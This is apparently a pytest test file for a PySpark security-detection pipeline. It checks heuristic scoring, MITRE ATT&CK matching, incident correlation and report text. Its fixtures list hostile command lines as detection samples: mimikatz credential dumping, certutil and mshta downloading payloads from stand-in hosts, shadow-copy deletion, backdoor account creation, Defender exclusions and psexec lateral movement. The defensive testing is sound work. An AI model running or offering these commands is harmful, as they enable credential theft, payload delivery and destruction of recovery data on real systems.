"""Small inputs with known results: scoring, incidents, assessment, labels, intel, texts."""

import datetime as dt
import unicodedata

import pytest
from pyspark.sql import functions as F

from tidewatch.functions import ioc
from tidewatch.functions.text import HOMOGLYPHS, fold_ascii, shannon_entropy
from tidewatch.operators import assess, incidents, matching, scoring
from tidewatch.operators.evaluate import case_evaluation
from tidewatch.schema import DETECTION_ALIASES, detection_view

FIELDS = list(DETECTION_ALIASES)


def events(spark, *rows):
    cols = sorted({k for r in rows for k in r})
    df = spark.createDataFrame([tuple(None if r.get(c) is None else str(r[c]) for c in cols) for r in rows],
                               ", ".join(f"`{c}` string" for c in cols))
    df = df.withColumn("event_key", F.monotonically_increasing_id())
    keep = ("event_key",) + tuple(c for c in ("ml_score", "event_ts") if c in cols)
    return detection_view(df, keep)


def one(df):
    return df.collect()[0]


@pytest.mark.parametrize("text", ["мimiкatz", "ﬁle ½ 𝐀bc", "plain \"quoted\" `x`", "Straße…", "", "naïve café"])
def test_fold_matches_unicode_tables(spark, text):
    expected = "".join(HOMOGLYPHS.get(c, c) for c in text)
    expected = unicodedata.normalize("NFKD", expected).encode("ascii", "ignore").decode()
    for ch in "\"'`":
        expected = expected.replace(ch, "")
    got = one(spark.createDataFrame([(text,)], "s string").select(fold_ascii("s").alias("x"))).x
    assert got == expected


def test_entropy(spark):
    got = one(spark.createDataFrame([("aabb",)], "s string").select(shannon_entropy("s").alias("x"))).x
    assert got == pytest.approx(1.0)


def test_service_install_is_anomalous_and_notepad_is_not(spark):
    df = events(spark, {"event_id": 7045, "process_name": "services.exe"}, {"event_id": 4688, "process_name": "notepad.exe"})
    assert [r.a for r in df.select(scoring.is_anomalous().alias("a")).collect()] == [True, False]


@pytest.mark.parametrize("answer,verdict,confidence", [
    ("This is NOT MALICIOUS", "FALSE_POSITIVE", 0.7), ("clearly malicious", "MALICIOUS", 0.9),
    ("a false positive", "FALSE_POSITIVE", 0.8), ("looks suspicious", "SUSPICIOUS", 0.6), ("benign", "FALSE_POSITIVE", 0.7),
    ("no idea", "SUSPICIOUS", 0.5)])
def test_verdicts(spark, answer, verdict, confidence):
    v = one(spark.createDataFrame([(answer,)], "s string").select(scoring.verdict(F.col("s")).alias("v"))).v
    assert (v.verdict, v.confidence) == (verdict, confidence)


def test_heuristic_scores(spark):
    df = scoring.score_events(events(
        spark, {"event_id": 1, "process_name": "mimikatz.exe", "command_line": "sekurlsa::logonpasswords"},
        {"event_id": 4688, "process_name": "powershell.exe", "command_line": "powershell -nop -w hidden -enc AAAA"},
        {"event_id": 4625, "process_name": "x.exe", "command_line": "x"}))
    # one keyword, one tool, one watched id; four keywords and more are capped at one
    a, b, c = sorted(df.collect(), key=lambda r: r.event_key)
    assert a.ml_score == pytest.approx(0.45) and not a.is_malicious
    assert a.ml_reason == "Heuristic: 1 suspicious keywords, LOLBin, high-risk event 1"
    assert b.ml_score == 1.0 and b.is_malicious
    assert c.ml_score == pytest.approx(0.05) and c.ml_reason == "Heuristic: high-risk event 4625"


def test_incident_split_by_host_and_gap(spark):
    base = dt.datetime(2024, 1, 1, 10, 0)
    mins = [("A", 0), ("A", 1), ("B", 1), ("A", 31), ("A", 62)]
    rows = [(i, h, base + dt.timedelta(minutes=m)) for i, (h, m) in enumerate(mins)]
    df = spark.createDataFrame(rows, "event_key int, hostname string, event_ts timestamp")
    got = {r.event_key: r.incident_id for r in incidents.correlate(df).collect()}
    # thirty minutes exactly stay together, thirty-one start a new incident
    assert got[0] == got[1] == got[3] and got[4] != got[0] and got[2] not in (got[0], got[4])


def test_shadow_delete_techniques(spark):
    df = events(spark, {"event_id": 4688, "process_name": "cmd.exe", "parent_image": "outlook.exe",
                        "command_line": "cmd.exe /c vssadmin delete shadows /all /quiet"})
    got = {r.id: round(r.confidence, 2) for r in matching.explode_techniques(
        df, matching.pattern_techniques(), ["event_key"]).collect()}
    assert got["T1490"] == 0.4 and got["T1486"] == 0.4 and got["T1566.001"] == 0.3


def test_credential_phase_and_technique(spark):
    df = events(spark, {"event_id": 1, "process_name": "mimikatz.exe", "command_line": "sekurlsa::logonpasswords", "user": "bob"})
    row = one(df.select(incidents.interpret().alias("i"), matching.keyword_techniques().alias("t")))
    assert row.i.phase == "Credential Access" and [t.id for t in row.t] == ["T1003.001"]
    assert row.i.description == "Credential dumping: mimikatz.exe executed by bob [sekurlsa::logonpasswords]"


def test_external_ip_kept_private_dropped(spark):
    df = events(spark, {"command_line": "connect 8.8.4.4 and 192.168.1.5", "source_ip": "8.8.4.4"})
    got = [(r.type, r.value) for r in df.select(F.explode(ioc.event_indicators_a(incidents.IOC_FIELDS)).alias("i")).select(
        "i.*").collect()]
    assert got.count(("ip", "8.8.4.4")) == 2 and all(v != "192.168.1.5" for _, v in got)


def signals(spark, ml=None, io=None, mitre=None, agent=None):
    ddl = ", ".join(f"{k} {v}" for k, v in assess.SIGNAL_TYPES.items())
    return one(assess.assess(spark.createDataFrame([(ml, io, mitre, agent)], ddl)))


def test_assessment_cases(spark):
    a = signals(spark, ml=(0.9, True, "", True))
    assert (a.final_score, a.severity, a.confidence_level, a.arbitration_rules) == (90.0, "critical", "low", [])
    b = signals(spark, ml=(0.5, True, "", True), io=(0.8, True, ["a", "b"], 1))
    assert round(b.base_points, 1) == 69.4 and (b.final_score, b.severity) == (85.0, "critical")
    c = signals(spark, ml=(0.4, True, "lsass dump detected", True))
    assert c.final_score == 80.0 and c.arbitration_rules[0].startswith("R2")
    combo = ([("T1", "n", "x", 0.2)], ["lateral_movement", "credential_access"], 0.2, True, True, False)
    d = signals(spark, ml=(0.3, False, "", True), mitre=combo)
    assert d.final_score >= 65 and d.arbitration_rules[0].startswith("R3")
    e = signals(spark, ml=(0.4, False, "", True), agent=("FALSE_POSITIVE", 0.9, [], 1))
    assert round(e.base_points, 2) == 29.35 and e.final_score == 25.0
    f = signals(spark)
    assert (f.final_score, f.severity, f.confidence_level) == (0.0, "info", "low")
    g = signals(spark, ml=(0.1, False, "", True), mitre=([("T", "n", "impact", 0.3)], ["impact"], 0.3, False, False, True))
    assert g.final_score == 65.0 and g.arbitration_rules[0].startswith("R4")
    h = signals(spark, ml=(0.6, False, "", True), io=(0.9, False, ["v"], 1), agent=("FALSE_POSITIVE", 0.9, ["x"], 6))
    assert h.final_score == 40.0 and h.arbitration_rules[0].startswith("R7")
    i = signals(spark, ml=(0.9, True, "", True), io=(0.9, True, ["v"], 1), agent=("MALICIOUS", 0.9, [], 1))
    assert i.arbitration_rules[0].startswith("R5: all 3 sources agree") and i.confidence_level == "high"
    assert i.recommended_action.startswith("IMMEDIATE")


@pytest.mark.parametrize("score,band", [(90, "critical"), (65, "high"), (45, "medium"), (25, "low"), (24, "info")])
def test_bands(spark, score, band):
    assert one(spark.createDataFrame([(float(score),)], "s double").select(assess.band(F.col("s")).alias("b"))).b == band


def test_provider_confidence(spark):
    rows = [("a", "local", None, None, None, True), ("b", "local", None, None, None, False),
            ("c", "VirusTotal", 35, 70, None, True), ("c", "local", None, None, None, False)]
    df = spark.createDataFrame(rows, "indicator string, provider string, malicious_votes int, total_engines int, "
                                     "abuse_confidence_score int, is_malicious boolean")
    got = {r.indicator: (r.is_malicious, round(r.confidence, 4)) for r in matching.provider_verdict(df).collect()}
    assert got["a"] == (True, 0.6) and got["b"] == (False, 0.0) and got["c"] == (True, round(0.3 / 0.9, 4))


def test_wide_catalogue_needs_two_hits(spark):
    df = events(spark, {"command_line": "copy credential dumping tool"}, {"command_line": "credential only"})
    cat = spark.createDataFrame([("T9", "n", "t", ["credential", "dumping", "abc"])],
                                "id string, name string, tactic string, keywords array<string>")
    got = matching.extended_techniques(df, cat, "event_key").collect()
    assert len(got) == 1 and got[0].confidence == pytest.approx(0.4)


def test_invalid_rule_pattern_is_a_substring(spark):
    rules = spark.createDataFrame([("high", "foo(bar"), ("low", "baz")], "level string, pattern string")
    df = events(spark, {"command_line": "run foo(bar now"}, {"command_line": "baz"}, {"command_line": "zzz"})
    got = [r.c for r in df.select(matching.sigma_class(rules).alias("c")).collect()]
    assert got == ["malicious_high", "suspicious_low", None]


def test_technique_lookup_by_subtechnique(spark):
    cards = matching.technique_cards(spark)
    assert [r.id for r in matching.lookup_technique(cards, "T1059").collect()] == ["T1059"]
    assert [r.id for r in matching.lookup_technique(cards, "T1021.001").collect()] == ["T1021"]
    assert "T1486" in [r.id for r in matching.lookup_technique(cards, keyword="ransomware").collect()]


SCENARIOS = [  # (expected label, expected techniques, [(event id, process, command)])
    (1, ["T1003"], [(1, "C:\\Users\\attacker\\mimikatz.exe", "mimikatz.exe sekurlsa::logonpasswords exit")]),
    (1, ["T1059.001"], [(4688, "powershell.exe", "powershell.exe -enc JAB1AHIAbAAgAD0AIAAn")]),
    (1, ["T1490"], [(4688, "cmd.exe", "cmd.exe /c vssadmin delete shadows /all /quiet"),
                    (4688, "bcdedit.exe", "bcdedit /set {default} recoveryenabled no")]),
    (1, ["T1021"], [(1, "C:\\Windows\\psexec.exe", "psexec \\\\192.168.1.50 -u admin cmd.exe")]),
    (1, ["T1105"], [(4688, "certutil.exe", "certutil -urlcache -split -f http://evil.com/payload.exe")]),
    (1, ["T1053"], [(4688, "schtasks.exe", "schtasks /create /tn Updater /tr C:\\Temp\\m.exe /sc onlogon")]),
    (1, ["T1218"], [(1, "mshta.exe", "mshta.exe http://malicious.com/payload.hta")]),
    (1, ["T1047"], [(4688, "wmic.exe", "wmic /node:192.168.1.100 process call create cmd.exe")]),
    (1, ["T1136"], [(4688, "net.exe", "net user hacker P@ssw0rd /add")]),
    (1, ["T1562"], [(1, "powershell.exe", "powershell.exe -c Add-MpPreference -ExclusionPath C:\\Temp\\m.exe")]),
    (1, ["T1082", "T1021", "T1003"], [(4688, "whoami.exe", "whoami /priv"), (1, "psexec.exe", "psexec \\\\DC01 cmd.exe"),
                                      (10, "C:\\Temp\\x.exe", "x.exe -dump lsass")]),
    (0, [], [(4624, "", "")]),
    (0, [], [(1, "git.exe", "git pull origin main")]),
]


def test_scenarios(spark):
    rows = [(i, lab, exp, e, p, c) for i, (lab, exp, evs) in enumerate(SCENARIOS) for e, p, c in evs]
    df = spark.createDataFrame(rows, "case_id int, expected_label int, expected array<string>, event_id int, "
                                     "process_name string, command_line string")
    df = df.withColumn("tags", matching.scenario_tags())
    cases = df.groupBy("case_id", "expected_label", "expected").agg(F.array_distinct(F.flatten(F.collect_list("tags"))).alias(
        "detected")).withColumn("predicted_label", (F.size("detected") > 0).cast("int"))
    m = one(case_evaluation(cases))
    assert (m.tp, m.fp, m.tn, m.fn) == (11, 0, 2, 0) and m.technique_recall == 1.0


def test_two_event_incident_texts(spark):
    rows = [("2024-01-01 10:00:00", 1, "mimikatz.exe", "sekurlsa::logonpasswords", "admin", 0.9),
            ("2024-01-01 10:01:00", 4688, "psexec.exe", "psexec 8.8.4.4 cmd.exe", "bob", 0.7)]
    base = events(spark, *[{"hostname": "WS-VICTIM01", "timestamp": t, "event_ts": t, "event_id": e, "process_name": p,
                            "command_line": c, "user": u, "ml_score": s} for t, e, p, c, u, s in rows])
    df = base.withColumns({"event_ts": F.col("event_ts").cast("timestamp"), "ml_score": F.col("ml_score").cast("double")})
    inc, tl = incidents.investigate(df)
    r = one(inc)
    assert r.event_count == 2 and r.classification == "Credential theft with lateral movement"
    assert "Privileged accounts involved: admin" in r.impact_assessment
    assert any("Block external IPs: 8.8.4.4" in x for x in r.recommendations)
    assert r.affected_users == ["admin", "bob"] and r.technique_names[0] == "LSASS Memory"
    text = one(incidents.report_text(inc, tl)).report
    assert "[!!!] [Credential Access]" in text and "    MITRE: T1003.001" in text and "[PROCESS]" in text
    assert "MITRE ATT&CK TECHNIQUES" in one(incidents.read_view(inc, tl)).view
    assert "PRELIMINARY ROOT CAUSE" in one(incidents.context_text(inc, tl)).context
